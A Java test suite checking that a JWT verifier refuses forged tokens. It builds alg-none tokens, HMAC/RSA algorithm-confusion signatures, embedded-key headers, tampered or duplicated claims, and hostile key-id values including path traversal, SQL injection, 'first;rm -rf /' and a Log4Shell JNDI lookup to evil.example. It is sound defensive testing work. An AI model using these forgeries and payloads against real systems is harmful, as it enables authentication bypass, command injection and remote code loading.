package io.cadencia.adapter.http.access.jwt;

import static io.cadencia.adapter.http.access.jwt.IdentityProvider.FIRST;
import static io.cadencia.adapter.http.access.jwt.IdentityProvider.NOON;
import static io.cadencia.adapter.http.access.jwt.IdentityProvider.SECOND;
import static io.cadencia.adapter.http.access.jwt.IdentityProvider.STRANGE;
import static io.cadencia.adapter.http.access.jwt.IdentityProvider.claims;
import static io.cadencia.adapter.http.access.jwt.IdentityProvider.header;
import static io.cadencia.adapter.http.access.jwt.IdentityProvider.token;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.PlainJWT;
import io.cadencia.adapter.http.TestPeople;
import io.cadencia.adapter.http.error.Fault;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Date;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/** Tokens as attackers make them, each against a provider whose keys were seen. */
@DisplayName("A-22, B-09 a forged token")
class ForgedTokenTest {

  private static IdentityProvider provider;
  private static ECKey elliptic;

  @BeforeAll
  static void start() throws JOSEException {
    provider = new IdentityProvider();
    elliptic = new ECKeyGenerator(Curve.P_256).keyID("elliptic").generate();
    provider.publish(FIRST, elliptic);
  }

  @AfterAll
  static void stop() {
    provider.close();
  }

  private static JwtVerifier verifier() {
    return new JwtVerifier(
        List.of(provider.settings()),
        Clock.fixed(NOON, ZoneOffset.UTC),
        () -> 0L,
        new TestPeople()::recognise);
  }

  private static void isRefused(String token) {
    var verifier = verifier();
    assertThat(Asking.withToken(verifier, token()).tells()).isPresent();

    Asking.withToken(verifier, token).isRefused(Fault.TOKEN_REFUSED);

    assertThat(provider.strays()).isZero();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({"algorithms", "signatures", "whatItSays", "forms"})
  void is_refused(String name, String token) {
    isRefused(token);
  }

  static Stream<Arguments> algorithms() throws JOSEException {
    var secretOfTheKey = FIRST.toRSAPublicKey().getEncoded();
    var pem =
        "-----BEGIN PUBLIC KEY-----\n"
            + Base64.encode(secretOfTheKey)
            + "\n-----END PUBLIC KEY-----\n";
    return Stream.of(
        arguments("none, without a signature", new PlainJWT(claims().build()).serialize()),
        arguments("none, with a key id", unsigned("none") + "."),
        arguments("none, with some signature", unsigned("none") + ".AAAA"),
        arguments("None", unsigned("None") + ".AAAA"),
        arguments("NONE", unsigned("NONE") + ".AAAA"),
        arguments("an empty algorithm", unsigned("") + ".AAAA"),
        arguments("HS256 by the public key", confused(JWSAlgorithm.HS256, secretOfTheKey)),
        arguments(
            "HS256 by the public key as PEM", confused(JWSAlgorithm.HS256, pem.getBytes(UTF_8))),
        arguments(
            "HS256 by the modulus", confused(JWSAlgorithm.HS256, FIRST.getModulus().decode())),
        arguments("HS512 by the public key", confused(JWSAlgorithm.HS512, secretOfTheKey)),
        arguments(
            "ES256 by a published key",
            signed(JWSAlgorithm.ES256, elliptic.getKeyID(), new ECDSASigner(elliptic))),
        arguments(
            "RS256 by name, ES256 by key",
            renamed(signed(JWSAlgorithm.ES256, elliptic.getKeyID(), new ECDSASigner(elliptic)))),
        arguments("RS384", signed(JWSAlgorithm.RS384, "first", new RSASSASigner(FIRST))),
        arguments("RS512", signed(JWSAlgorithm.RS512, "first", new RSASSASigner(FIRST))),
        arguments("PS256", signed(JWSAlgorithm.PS256, "first", new RSASSASigner(FIRST))));
  }

  static Stream<Arguments> signatures() throws JOSEException {
    var parts = token().split("\\.", -1);
    var admin = Base64URL.encode(claims().claim("email", "jefa@planta.example").build().toString());
    return Stream.of(
        arguments("by a stranger's key", token(STRANGE)),
        arguments("by a key that is not published", token(SECOND)),
        arguments("of another token", parts[0] + "." + admin + "." + parts[2]),
        arguments("empty", parts[0] + "." + parts[1] + "."),
        arguments("missing", parts[0] + "." + parts[1]),
        arguments("shortened", token().substring(0, token().length() - 8)),
        arguments("of zeros", parts[0] + "." + parts[1] + "." + "A".repeat(parts[2].length())),
        arguments(
            "with its key along",
            token(header(STRANGE).jwk(STRANGE.toPublicJWK()), STRANGE, good())),
        arguments(
            "with the address of its key along",
            token(header(STRANGE).jwkURL(provider.address("/elsewhere")), STRANGE, good())),
        arguments(
            "with the address of its certificate along",
            token(header(STRANGE).x509CertURL(provider.address("/elsewhere")), STRANGE, good())),
        arguments(
            "with a certificate along",
            token(
                header(STRANGE).x509CertChain(List.of(Base64.encode("certificate"))),
                STRANGE,
                good())));
  }

  static Stream<Arguments> whatItSays() {
    return Stream.of(
        arguments("another issuer", token(claims().issuer("https://evil.example/"))),
        arguments("its issuer almost", token(claims().issuer("https://plant.example"))),
        arguments("its issuer in capitals", token(claims().issuer("https://PLANT.example/"))),
        arguments("no issuer", token(claims().issuer(null))),
        arguments(
            "several issuers",
            raw(good().replace("\"https://plant.example/\"", "[\"https://plant.example/\"]"))),
        arguments("another audience", token(claims().audience("another"))),
        arguments("its audience almost", token(claims().audience(IdentityProvider.AUDIENCE + "/"))),
        arguments("no audience", token(claims().audience((String) null))),
        arguments("an empty list of audiences", token(claims().audience(List.of()))),
        arguments("no end", token(claims().expirationTime(null))),
        arguments(
            "an end that is a text",
            raw(good().replaceAll("\"exp\":\\d+", "\"exp\":\"9999999999\""))),
        arguments("an end long ago", token(claims().expirationTime(Date.from(Instant.EPOCH)))),
        arguments(
            "an end before the beginning of time",
            raw(good().replaceAll("\"exp\":\\d+", "\"exp\":-1"))),
        arguments(
            "a beginning later on", token(claims().notBeforeTime(Date.from(NOON.plusSeconds(61))))),
        arguments(
            "a beginning that is a text", raw(good().replaceAll("\"nbf\":\\d+", "\"nbf\":\"0\""))),
        arguments("its e-mail address twice", raw(twice("email", "jefa@planta.example"))),
        arguments("its role twice", raw(twice(IssuerSettings.ROLE_CLAIM, "admin"))),
        arguments("its issuer twice", raw(twice("iss", "https://plant.example/"))),
        arguments("a list", raw("[" + good() + "]")),
        arguments("nothing", raw("{}")),
        arguments("no JSON", raw("good morning")),
        arguments("lists in lists", raw("[".repeat(5_000))),
        arguments("objects in objects", raw("{\"a\":".repeat(1_100))));
  }

  static Stream<Arguments> forms() throws JOSEException {
    var parts = token().split("\\.", -1);
    return Stream.of(
        arguments("no key id", token(new JWSHeader.Builder(JWSAlgorithm.RS256))),
        arguments(
            "critical extensions",
            token(header(FIRST).criticalParams(Set.of("b64")).base64URLEncodePayload(false))),
        arguments(
            "unknown critical extensions",
            token(header(FIRST).criticalParams(Set.of("role")).customParam("role", "admin"))),
        arguments(
            "made for signing out", token(header(FIRST).type(new JOSEObjectType("logout+jwt")))),
        arguments(
            "made for a proof of possession",
            token(header(FIRST).type(new JOSEObjectType("dpop+jwt")))),
        arguments("a token in a token", token(header(FIRST).contentType("JWT"), FIRST, token())),
        arguments("encrypted", encrypted()),
        arguments("too long", token(claims().claim("padding", "x".repeat(6_000)))),
        arguments("of a megabyte", parts[0] + "." + "A".repeat(1 << 20) + "." + parts[2]),
        arguments(
            "the algorithm twice",
            headed("{\"alg\":\"none\",\"kid\":\"first\",\"alg\":\"RS256\"}")),
        arguments(
            "the key id twice", headed("{\"alg\":\"RS256\",\"kid\":\"second\",\"kid\":\"first\"}")),
        arguments(
            "as JSON", "{\"payload\":\"" + parts[1] + "\",\"signature\":\"" + parts[2] + "\"}"),
        arguments("padded", parts[0] + "=." + parts[1] + "." + parts[2]),
        arguments("with a space", parts[0] + " ." + parts[1] + "." + parts[2]),
        arguments("with a fourth part", token() + ".AAAA"),
        arguments("with an empty header", "." + parts[1] + "." + parts[2]),
        arguments("only dots", ".."));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "unknown",
        "../../../../dev/null",
        "..\\..\\first",
        "/proc/self/environ",
        "file:///etc/passwd",
        "https://evil.example/keys",
        "first' OR '1'='1",
        "x' UNION SELECT 'c2VjcmV0' --",
        "first;rm -rf /",
        "first\n",
        "first\u0000",
        "FIRST",
        "${jndi:ldap://evil.example/a}",
      })
  void is_refused_by_its_key_id(String keyId) {
    isRefused(token(header(FIRST).keyID(keyId)));
  }

  @Test
  void is_refused_by_a_key_id_that_is_too_long() {
    isRefused(token(header(FIRST).keyID("f".repeat(129))));
  }

  @Test
  void does_not_reach_the_log() throws JOSEException {
    var log = (Logger) LoggerFactory.getLogger(Logger.ROOT_LOGGER_NAME);
    var seen = new ListAppender<ILoggingEvent>();
    seen.start();
    log.addAppender(seen);
    var usual = log.getLevel();
    log.setLevel(Level.DEBUG);
    try {
      var tokens =
          Stream.of(algorithms(), signatures(), whatItSays(), forms())
              .flatMap(all -> all)
              .map(one -> (String) one.get()[1])
              .toList();
      tokens.forEach(ForgedTokenTest::isRefused);

      assertThat(seen.list).hasSizeGreaterThan(tokens.size());
      var lines = seen.list.stream().map(ILoggingEvent::getFormattedMessage).toList();
      assertThat(String.join("\n", lines))
          .doesNotContain("eyJ", IdentityProvider.EMAIL, "jefa@", token());
    } finally {
      log.setLevel(usual);
      log.detachAppender(seen);
    }
  }

  private static String good() {
    return claims().build().toString();
  }

  /** The claim once more, with the value that an attacker wants. */
  private static String twice(String name, String value) {
    var good = good();
    return good.substring(0, good.length() - 1) + ",\"" + name + "\":\"" + value + "\"}";
  }

  private static String raw(String payload) {
    return token(header(FIRST), FIRST, payload);
  }

  private static String unsigned(String algorithm) {
    var header = "{\"alg\":\"" + algorithm + "\",\"kid\":\"first\"}";
    return Base64URL.encode(header) + "." + Base64URL.encode(good());
  }

  private static String confused(JWSAlgorithm algorithm, byte[] secret) throws JOSEException {
    return signed(algorithm, "first", new MACSigner(secret));
  }

  private static String signed(JWSAlgorithm algorithm, String keyId, JWSSigner signer)
      throws JOSEException {
    var token =
        new JWSObject(new JWSHeader.Builder(algorithm).keyID(keyId).build(), new Payload(good()));
    token.sign(signer);
    return token.serialize();
  }

  private static String renamed(String token) {
    var header = "{\"alg\":\"RS256\",\"kid\":\"" + elliptic.getKeyID() + "\"}";
    return Base64URL.encode(header) + token.substring(token.indexOf('.'));
  }

  /** With a header that no library would write, and a signature that is right for it. */
  private static String headed(String header) {
    try {
      var token =
          new JWSObject(
              header(FIRST).parsedBase64URL(Base64URL.encode(header)).build(), new Payload(good()));
      token.sign(new RSASSASigner(FIRST));
      return token.serialize();
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String encrypted() throws JOSEException {
    var sealed =
        new JWEObject(
            new JWEHeader.Builder(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A128GCM)
                .keyID("first")
                .contentType("JWT")
                .build(),
            new Payload(token()));
    sealed.encrypt(new RSAEncrypter(FIRST.toRSAPublicKey()));
    return sealed.serialize();
  }
}
